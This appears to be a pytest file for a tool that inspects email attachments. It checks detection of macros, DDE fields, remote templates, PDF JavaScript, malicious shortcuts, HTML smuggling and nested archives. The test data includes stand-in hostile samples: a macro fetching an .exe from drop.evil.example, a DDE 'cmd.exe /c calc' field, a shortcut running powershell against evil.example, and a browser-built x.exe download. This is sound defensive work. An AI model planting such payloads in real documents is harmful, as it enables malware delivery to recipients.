"""inspect_file: what an analyst wants to know of a file, and how a file inside another one is reached."""

from __future__ import annotations

import base64
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.unit.tools.files import makers as make
from tests.unit.tools.files.hostile_mails import attached
from tests.unit.tools.test_mail import ORGANIZATION, zipped
from tools.investigate.answer import InputRefused
from tools.investigate.attached_file import judged
from tools.investigate.files.budget import Budget, Spent
from tools.investigate.inspect_file import Facts, entropy, run
from tools.sandbox import reply

ROOT = Path(__file__).parents[4]


def look(name: str, content: bytes, path: str = "") -> dict[str, Any]:
    attachment = {"name": name, "content_base64": base64.b64encode(content).decode()}
    found: dict[str, Any] = run(
        {"attachment": 0, "path": path}, {"attachment": attachment, "organization": ORGANIZATION}
    )
    Facts.model_validate(found["facts"])
    return reply.parse(json.dumps(found, ensure_ascii=False).encode())


def facts(name: str, content: bytes, path: str = "") -> dict[str, Any]:
    found: dict[str, Any] = look(name, content, path)["facts"]
    return found


def test_hashes_and_size_are_those_of_the_file() -> None:
    found = facts("a.txt", b"hello")
    assert (found["size"], found["md5"]) == (5, "5d41402abc4b2a76b9719d911017c592")
    assert found["sha1"] == "aaf4c61ddcc5e8a2dabede0f3b482cd9aea9434d"
    assert found["sha256"].startswith("2cf24dba5fb0a30e")


@pytest.mark.parametrize(("content", "bits"), [(b"", 0.0), (b"aaaa", 0.0), (b"abab", 1.0), (bytes(range(256)), 8.0)])
def test_entropy_is_in_bits_a_byte(content: bytes, bits: float) -> None:
    assert entropy(content) == bits


@pytest.mark.parametrize(
    ("name", "content", "kind", "mismatch"),
    [
        ("a.pdf", make.pdf(b"<</Type/Catalog>>"), "pdf", False),
        ("a.pdf", make.pe(), "pe", True),
        ("a.jpg", make.png(1, 1), "png", True),
        ("a.docx", make.docx(), "docx", False),
        ("a.docx", zipped("a.txt"), "zip", True),
        ("a.doc", make.macro_document(), "doc", False),
        ("a.doc", b"{\\rtf1 hello}", "rtf", True),
        ("a.xls", make.ole({"Workbook": bytes(100)}), "xls", False),
        ("a.msg", make.ole({"__properties_version1.0": bytes(40)}), "msg", False),
        ("a.msi", make.ole({"x": b"y"}, bytes.fromhex("84100c0000000000c000000000000046")), "msi", False),
        ("a.xlsx", make.ole({"EncryptedPackage": b"x", "EncryptionInfo": b"y"}), "encrypted office", False),
        ("a.jar", make.zipped({"META-INF/MANIFEST.MF": b"x", "A.class": b"y"}), "jar", False),
        ("a.tar", make.tarred({"a": b"x"}), "tar", False),
        ("a.iso", make.iso({"A.TXT;1": b"x"}), "iso", False),
        ("a.lnk", make.lnk("x"), "lnk", False),
        ("a.txt", b"hello", "text", False),
        ("a.txt", make.pe(), "pe", True),
        ("notes", b"#!/usr/bin/env python3\nprint(1)\n", "script", False),
        ("notes", b"Set-ExecutionPolicy x\n$a = 1\nInvoke-WebRequest b\n", "script", False),
        ("a.html", b"<p>x", "html", False),
        ("a.svg", b"<?xml version='1.0'?><!-- x --><svg/>", "svg", False),
        ("a.json", b'{"a": 1}', "json", False),
        ("a.eml", attached("x", b"y"), "mail", False),
        ("a", b"\x7fELF" + bytes([2, 1, 1]) + bytes(9) + b"\x02\x00\x3e\x00", "elf", False),
        ("a", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01", "macho", False),
        ("a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(30), "7z", False),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_kind_is_told_by_content_and_compared_with_the_name(
    name: str, content: bytes, kind: str, mismatch: bool
) -> None:
    found = facts(name, content)
    assert (found["type"], found["extension_mismatch"]) == (kind, mismatch)


def test_macros_are_read_and_what_they_fetch_is_an_indicator() -> None:
    result = look("a.doc", make.macro_document())
    assert (result["facts"]["macros"], result["facts"]["auto_exec"]) == (True, True)
    assert result["facts"]["suspicious_keywords"] >= 3
    assert "http://drop.evil.example/a.exe" in result["detail"]["urls"]


def test_macros_in_a_new_document_are_read_too() -> None:
    project = make.ole({"VBA/dir": b"\1", "VBA/_VBA_PROJECT": bytes(30), "VBA/m": make.vba()})
    assert facts("a.docm", make.docx({"word/vbaProject.bin": project}))["auto_exec"] is True


def test_rubbish_behind_a_module_does_not_hide_its_source() -> None:
    document = make.ole({"VBA/dir": b"\1", "VBA/_VBA_PROJECT": bytes(30), "VBA/m": make.vba() + b"\xff" * 500})
    assert facts("a.doc", document)["auto_exec"] is True


def test_macros_without_source_are_said_to_be_unseen() -> None:
    stomped = make.ole({"VBA/dir": b"\1", "VBA/_VBA_PROJECT": bytes(30), "VBA/m": bytes(300)})
    assert "the source of its macros is missing" in " ".join(look("a.doc", stomped)["detail"]["why"])


def test_library_that_must_not_be_used_is_never_imported() -> None:
    """oletools asks for pcodedmp, which is GPL; reading macros must work without."""
    code = (
        "import sys; sys.modules['pcodedmp'] = None; sys.modules['easygui'] = None\n"
        "from tests.unit.tools.files.test_inspect_file import facts, make\n"
        "assert facts('a.doc', make.macro_document())['suspicious_keywords'] >= 3\n"
        "assert sys.modules['pcodedmp'] is None"
    )
    subprocess.run([sys.executable, "-c", code], cwd=ROOT, check=True, timeout=120)


RELATION = '<Relationships><Relationship Id="1" Type="http://x/{}" Target="{}" TargetMode="External"/></Relationships>'


@pytest.mark.parametrize(
    ("kind", "target", "remote"),
    [
        ("attachedTemplate", "http://evil.example/t.dotm", True),
        ("oleObject", "\\\\198.51.100.7\\share\\a", True),
        ("hyperlink", "http://vendor.example/", False),
        ("attachedTemplate", "Normal.dotm", False),
    ],
)
def test_document_that_loads_a_part_from_elsewhere(kind: str, target: str, remote: bool) -> None:
    rels = RELATION.format(kind, target).encode()
    assert facts("a.docx", make.docx({"word/_rels/settings.xml.rels": rels}))["remote_template"] is remote


def test_dde_is_found_although_its_field_is_cut_into_runs() -> None:
    body = b"<w:instrText>DDEA</w:instrText><w:instrText>UTO cmd.exe &quot;/c calc&quot;</w:instrText>"
    result = look("a.docx", make.docx(body=body))
    assert result["facts"]["dde"] is True
    assert result["detail"]["dde"] == 'cmd.exe "/c calc"'


def test_rtf_object_is_found_behind_noise_between_its_digits() -> None:
    digits = (b"\1\5\0\0\2\0\0\0" + b"\x0b\0\0\0Equation.3\0" + bytes(12)).hex().encode()
    noisy = (
        b"{\\rtf1{\\object{\\*\\objdata "
        + b"{\\par}".join(digits[i : i + 3] for i in range(0, len(digits), 3))
        + b"}}}"
    )
    result = look("a.rtf", noisy)
    assert result["facts"]["embedded_objects"] == 1
    assert "equation editor" in " ".join(result["detail"]["why"])


def test_pdf_actions_are_found_although_their_names_are_escaped() -> None:
    result = look("a.pdf", make.pdf(b"<</Type/Catalog/OpenAction<</S/J#61vaScript/J#53(app.alert\\0501\\051)>>>>"))
    assert (result["facts"]["pdf_javascript"], result["facts"]["pdf_open_action"]) == (True, True)
    assert result["detail"]["pdf"]["scripts"] == ["app.alert(1)"]
    assert "PDF whose names are disguised" in result["detail"]["why"]


@pytest.mark.parametrize("action", [b"[3 0 R /Fit]", b"<</S/GoTo/D[3 0 R /Fit]>>", b"2 0 R"])
def test_pdf_that_opens_on_a_page_does_nothing_else(action: bytes) -> None:
    document = make.pdf(b"<</Type/Catalog/OpenAction " + action + b">>", b"[3 0 R /Fit]")
    assert facts("a.pdf", document)["pdf_open_action"] is False


def test_pdf_behind_the_empty_password_is_read() -> None:
    from io import BytesIO

    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(10, 10)
    writer.add_attachment("invoice.exe", make.pe())
    writer.encrypt("", "owner")
    out = BytesIO()
    writer.write(out)
    result = look("a.pdf", out.getvalue())
    assert (result["facts"]["encrypted"], result["facts"]["risky_members"]) == (False, 1)
    assert facts("a.pdf", out.getvalue(), "invoice.exe")["program"] == "windows"


def test_shortcut_says_what_it_starts_and_how_it_hides() -> None:
    result = look("a.pdf.lnk", make.lnk("/c powershell http://evil.example/", target="..\\cmd.exe", show=7))
    assert (result["facts"]["shortcut_target"], result["facts"]["shortcut_arguments"]) == ("..\\cmd.exe", True)
    assert {"two extensions", "shortcut whose window stays hidden"} <= set(result["detail"]["why"])
    assert result["detail"]["urls"] == ["http://evil.example/"]


def test_shortcut_is_read_as_an_independent_reader_reads_it() -> None:
    LnkFile = pytest.importorskip("LnkParse3").lnk_file  # noqa: N806 - a class of the library
    raw = make.lnk("/c calc.exe", target="..\\cmd.exe")
    theirs = LnkFile(indata=raw).get_json()["data"]
    ours = look("a.lnk", raw)["detail"]["shortcut"]
    assert (ours["target"], ours["arguments"]) == (theirs["relative_path"], theirs["command_line_arguments"])


def test_page_that_builds_a_file_in_the_browser_is_noticed() -> None:
    page = b"<script>var b = new Blob([atob('TVo=')]); a.href = URL.createObjectURL(b); a.download = 'x.exe'</script>"
    assert facts("a.html", page)["smuggling"] is True
    assert facts("a.html", b"<p>Hello</p>")["smuggling"] is False


def test_indicators_of_our_own_are_left_out() -> None:
    result = look("a.txt", b"see http://evil.example/x and https://www.harbourbank.example/y and 198.51.100.7")
    assert (result["detail"]["urls"], result["detail"]["domains"]) == (["http://evil.example/x"], ["evil.example"])
    assert (result["facts"]["urls"], result["facts"]["domains"], result["facts"]["ips"]) == (1, 1, 1)


NESTED = make.zipped({"inner.zip": make.zipped({"run.js": b"eval(1)", "b.txt": b"x"}), "same": b"1"})


def test_members_are_listed_with_the_path_that_leads_to_them() -> None:
    result = look("a.zip", NESTED)
    paths = [member["path"] for member in result["detail"]["members"]]
    assert paths == ["inner.zip", "inner.zip//run.js", "inner.zip//b.txt", "same"]
    assert [facts("a.zip", NESTED, path)["type"] for path in paths] == ["zip", "script", "text", "text"]


@pytest.mark.parametrize("path", ["inner.zip//run.js", "#0//run.js", "inner.zip//#0", "#0//#0"])
def test_member_is_reached_by_name_or_number(path: str) -> None:
    assert facts("a.zip", NESTED, path)["script"] == "JavaScript"


@pytest.mark.parametrize("path", ["no.txt", "#9", "same//x", "#0//#0//#0//#0//#0", "#x"])
def test_member_that_is_not_there_is_refused_with_what_there_is(path: str) -> None:
    with pytest.raises(InputRefused):
        look("a.zip", NESTED, path)


def test_member_with_a_password_is_refused_with_the_reason() -> None:
    locked = make.raw_zip([{"name": b"a", "flags": 1, "data": b"?" * 40}])
    with pytest.raises(InputRefused, match="password"):
        look("a.zip", locked, "a")


def test_file_in_a_mail_and_in_a_message_of_outlook_is_reached() -> None:
    assert facts("m.eml", attached("run.exe", make.pe()), "run.exe")["program"] == "windows"
    folder = "__attach_version1.0_#00000000/__substg1.0_"
    message = make.ole({
        "__properties_version1.0": bytes(40), f"{folder}37010102": make.pe(),
        f"{folder}3707001F": "évil.exe".encode("utf-16-le"),
    })  # fmt: skip
    assert facts("m.msg", message)["risky_members"] == 1
    assert facts("m.msg", message, "évil.exe")["program"] == "windows"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.tar", make.tarred({"x" * 150 + "/run.js": b"x"})),
        ("a.tar.gz", make.tarred({"run.js": b"x"}, "w:gz")),
        ("a.tar.bz2", make.tarred({"run.js": b"x"}, "w:bz2")),
        ("a.tar.xz", make.tarred({"run.js": b"x"}, "w:xz")),
        ("a.iso", make.iso({"RUN.JS;1": b"x"})),
    ],
    ids=["tar", "gz", "bz2", "xz", "iso"],
)
def test_risky_file_is_found_in_every_archive(name: str, content: bytes) -> None:
    assert "archive with .js inside" in look(name, content)["detail"]["why"]


def test_ordinary_files_give_no_reason_to_be_careful() -> None:
    plain = {
        "a.txt": b"Dear all, lunch is at noon.", "a.pdf": make.pdf(b"<</Type/Catalog>>"), "a.docx": make.docx(),
        "a.png": make.png(800, 600), "a.zip": make.zipped({"a.png": make.png(8, 8), "b.csv": b"a,b\n1,2\n"}),
        "a.csv": b"a;b\n1;2\n", "a.json": b'{"a": [1, 2]}',
    }  # fmt: skip
    assert {name: look(name, content)["detail"]["why"] for name, content in plain.items()} == {
        name: [] for name in plain
    }


def test_mails_and_files_are_judged_alike() -> None:
    for name, content in (("a.zip", zipped("run.js")), ("a.pdf", make.pe()), ("a.docx", make.docx())):
        signs, _ = judged(name, content, Budget())
        assert set(signs) <= set(look(name, content)["detail"]["why"])


def test_ticket_without_that_attachment_is_told() -> None:
    with pytest.raises(InputRefused, match="no attachment 3"):
        run({"attachment": 3, "path": ""}, {"attachment": None, "organization": ORGANIZATION})


def endless() -> None:
    """As a library that catches everything."""
    while True:
        try:
            sum(range(1000))
        except Exception:  # noqa: BLE001
            continue


def test_reader_that_does_not_end_is_stopped_and_the_rest_goes_on() -> None:
    budget, unread = Budget(), list[str]()
    assert budget.attempt("endless", unread, endless, 0.05) is None
    assert unread == ["endless: read only in part, because it took too long"]
    assert budget.attempt("next", unread, lambda: 7) == 7


def test_inner_attempt_leaves_the_outer_ones_time_alone() -> None:
    budget, unread = Budget(), list[str]()

    def outer() -> int:
        budget.attempt("inner", unread, endless, 0.05)
        return 5

    assert budget.attempt("outer", unread, outer, 5.0) == 5
    assert unread == ["inner: read only in part, because it took too long"]


def test_budget_counts_down_over_everything_inside() -> None:
    budget = Budget(unpacked=100)
    budget.take_bytes(60)
    with pytest.raises(Spent):
        budget.take_bytes(60)
